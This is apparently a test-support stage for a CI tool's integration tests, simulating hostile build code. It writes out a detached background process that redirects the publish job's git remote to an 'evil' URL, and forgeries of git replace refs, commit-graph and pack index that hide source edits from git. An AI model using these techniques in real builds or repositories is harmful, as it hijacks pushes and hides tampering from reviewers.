"""A stage for testing the job entry's runner side: it writes files, runs a build command, reports what it saw.

Registered through the real ``tilebot.stages`` entry-point group (tests/integration/test_job_publish.py
builds the plugin directory). It reads ``$TILEBOT_PROBE`` (a JSON file):

- ``files``: ``{run-dir-relative path: text}`` to write (the stage's outputs);
- ``repo_files``: ``{repository-relative path: text}`` to write beside the run directory (a kernel crate,
  a stray file, an edit of the op's reference);
- ``verdict``: the verdict to return (default PASS);
- ``sleep``: seconds to wait before returning;
- ``build``: run a child process through ``tilebot.runner.sandbox.run_untrusted`` that records the
  environment it got (as a build script or test binary would see it) in ``child_env.json``;
- ``junit``: write ``correctness.xml`` with that many passing cases and one failing case;
- ``git``: git commands (argument lists) run in the checkout through ``run_untrusted``, after the files are
  written (as a build script could: commit, stage, configure);
- ``shell``: shell commands run the same way, after those;
- ``leave_running``: ``[evil, remote]``: leave a process running (forked twice, in a session of its own) that
  writes its pid to ``<evil>.pid`` and for 20 s tries to point the job's own git config (``$TMPDIR/tilebot-publish-*``)
  at ``evil`` instead of ``remote``;
- ``replace_head``: ``{repository-relative path: text}`` edited in a commit that ``git replace`` puts in HEAD's
  place, with the index and work tree to match, so that git run as usual sees no change at all;
- ``forge_commit_graph``: the same edits, hidden instead by a commit-graph whose entry for HEAD names the edited
  tree (git reads a commit's tree from the graph without checking it);
- ``forge_pack``: the same edits, hidden instead by a new pack whose index files the edited commit under HEAD's
  name (git takes an object's name from the index and reads the newest pack first);
- ``handoff``: in a build job, hand off instead of returning a result; in a check job, record in
  ``check_saw.json`` the hand-off it found (as D's check reads what D's build left).

After a disguise it records what ``git status`` in the checkout says of ``src/`` in ``disguised_status.txt``.
It always records the names in its own environment in ``stage_env.json``, the seconds its config gives it in
``stage_timeout.txt``, and touches
``$TILEBOT_PROBE_CALLED`` so tests can tell whether the stage ran at all.
"""

from __future__ import annotations

import hashlib
import json
import os
import sys
import time
from pathlib import Path

from tilebot.core import junit
from tilebot.core.result import StageResult
from tilebot.runner.sandbox import run_untrusted
from tilebot.runner.stages import Handoff, StageContext

_IDENTITY = ("-c", "user.name=evil", "-c", "user.email=evil@example.invalid")  # the stage's code, committing
_LEAVE_RUNNING = """
import glob, os, sys, tempfile, time
evil, remote = sys.argv[1:3]
if os.fork():
    sys.exit(0)
os.setsid()
if os.fork():
    os._exit(0)
null = os.open(os.devnull, os.O_RDWR)
for fd in (0, 1, 2):
    os.dup2(null, fd)
open(evil + ".pid", "w").write(str(os.getpid()))
end = time.monotonic() + 20
while time.monotonic() < end:
    for config in glob.glob(os.path.join(tempfile.gettempdir(), "tilebot-publish-*", "git", "config")):
        with open(config, "a") as f:
            f.write(f'[url "{evil}"]\\n\\tinsteadOf = {remote}\\n')
    time.sleep(0.001)
"""
_DUMP_ENV = "import json, os, sys; json.dump(sorted(os.environ), open(sys.argv[1], 'w'))"


def run(ctx: StageContext) -> StageResult | Handoff:
    probe = json.loads(Path(os.environ["TILEBOT_PROBE"]).read_text())
    Path(os.environ["TILEBOT_PROBE_CALLED"]).write_text(str(os.getpid()))
    artifacts = []
    for rel, text in probe.get("files", {}).items():
        path = ctx.run_dir / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        artifacts.append(ctx.artifact(path, "report"))
    for rel, text in probe.get("repo_files", {}).items():
        path = ctx.repo_root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    (ctx.attempt_dir / "stage_env.json").write_text(json.dumps(sorted(os.environ)))
    (ctx.attempt_dir / "stage_timeout.txt").write_text(str(ctx.config.timeouts[ctx.stage]))
    if probe.get("build"):
        child_env = ctx.attempt_dir / "child_env.json"
        proc = run_untrusted([sys.executable, "-c", _DUMP_ENV, str(child_env)], cwd=ctx.repo_root, timeout=60)
        assert proc.returncode == 0, proc.stderr
    if "junit" in probe:
        cases = [junit.Case(f"config{i}", "softmax.f16") for i in range(probe["junit"])]
        cases.append(junit.Case("config_big", "softmax.f16", outcome="failed", message="max abs err 0.5 > atol 0.01"))
        artifacts.append(ctx.artifact(junit.write(ctx.attempt_dir / "correctness.xml", "softmax", cases), "junit"))
    for command in probe.get("git", []):
        _git(ctx.repo_root, *command)
    for command in probe.get("shell", []):
        proc = run_untrusted(["sh", "-c", command], cwd=ctx.repo_root, timeout=60)
        assert proc.returncode == 0, proc.stderr
    if "leave_running" in probe:
        proc = run_untrusted(
            [sys.executable, "-c", _LEAVE_RUNNING, *probe["leave_running"]], cwd=ctx.repo_root, timeout=60
        )
        assert proc.returncode == 0, proc.stderr
    if "replace_head" in probe:
        _replace_head(ctx.repo_root, probe["replace_head"])
    if "forge_commit_graph" in probe:
        _forge_commit_graph(ctx.repo_root, probe["forge_commit_graph"])
    if "forge_pack" in probe:
        _forge_pack(ctx.repo_root, probe["forge_pack"])
    if {"replace_head", "forge_commit_graph", "forge_pack"} & set(probe):
        (ctx.attempt_dir / "disguised_status.txt").write_text(_git(ctx.repo_root, "status", "--porcelain", "src"))
    time.sleep(probe.get("sleep", 0))
    if probe.get("handoff") and ctx.phase == "build":
        return Handoff(message="probe built", artifacts=artifacts)
    if probe.get("handoff") and ctx.phase == "check":
        handoff = ctx.paths.handoff(ctx.stage, ctx.attempt)
        saw = handoff.read_text() if handoff.is_file() else None
        (ctx.attempt_dir / "check_saw.json").write_text(json.dumps({"handoff": saw}))
    return ctx.result(probe.get("verdict", "PASS"), "probe ran", artifacts=artifacts)


def _git(repo: Path, *args: str, input_text: str | None = None) -> str:
    proc = run_untrusted(["git", *_IDENTITY, *args], cwd=repo, timeout=60, input_text=input_text)
    assert proc.returncode == 0, proc.stderr
    return proc.stdout.strip()


def _stage_edits(repo: Path, edits: dict[str, str]) -> str:
    """Edit the files, index and work tree alike; the tree that holds the edits."""
    for rel, text in edits.items():
        (repo / rel).write_text(text)
    _git(repo, "add", "--", *edits)
    return _git(repo, "write-tree")


def _replace_head(repo: Path, edits: dict[str, str]) -> None:
    look_alike = _git(repo, "commit-tree", _stage_edits(repo, edits), "-m", _git(repo, "log", "-1", "--format=%s"))
    _git(repo, "replace", _git(repo, "rev-parse", "HEAD"), look_alike)


def _forge_commit_graph(repo: Path, edits: dict[str, str]) -> None:
    """The commit-graph format: a header, a chunk table, OIDL (sorted commit ids), CDAT (per commit: its tree id
    first), and a SHA-1 of all that at the end."""
    _git(repo, "commit-graph", "write", "--reachable")
    tree, head = bytes.fromhex(_stage_edits(repo, edits)), bytes.fromhex(_git(repo, "rev-parse", "HEAD"))
    path = repo / ".git" / "objects" / "info" / "commit-graph"
    data = bytearray(path.read_bytes())
    chunk = {bytes(data[8 + 12 * i : 12 + 12 * i]): int.from_bytes(data[12 + 12 * i : 20 + 12 * i]) for i in range(3)}
    oids = data[chunk[b"OIDL"] : chunk[b"CDAT"]]  # git writes OIDF, OIDL and CDAT first, in that order
    at = next(i for i in range(len(oids) // 20) if oids[20 * i : 20 * i + 20] == head)
    entry = chunk[b"CDAT"] + 36 * at
    data[entry : entry + 20] = tree
    data[-20:] = hashlib.sha1(data[:-20]).digest()
    path.chmod(0o644)
    path.write_bytes(bytes(data))


def _forge_pack(repo: Path, edits: dict[str, str]) -> None:
    """A one-object pack of a look-alike commit holding the edits, its index (v2: magic, version, a 256-entry fanout,
    the object names, their CRCs and offsets, the pack's checksum, its own) naming that object HEAD."""
    head = _git(repo, "rev-parse", "HEAD")
    look_alike = _git(repo, "commit-tree", _stage_edits(repo, edits), "-m", _git(repo, "log", "-1", "--format=%s"))
    base = repo / ".git" / "objects" / "pack" / "pack-forged"
    name = _git(repo, "pack-objects", "-q", str(base), input_text=look_alike + "\n")
    index = Path(f"{base}-{name}.idx")
    data = bytearray(index.read_bytes())
    assert data[:8] == b"\377tOc\0\0\0\2" and int.from_bytes(data[8 + 4 * 255 : 8 + 1024]) == 1
    first = bytes.fromhex(head)[0]
    data[8 : 8 + 1024] = b"".join((0 if i < first else 1).to_bytes(4) for i in range(256))
    data[8 + 1024 : 8 + 1044] = bytes.fromhex(head)
    data[-20:] = hashlib.sha1(data[:-20]).digest()
    index.chmod(0o644)
    index.write_bytes(bytes(data))
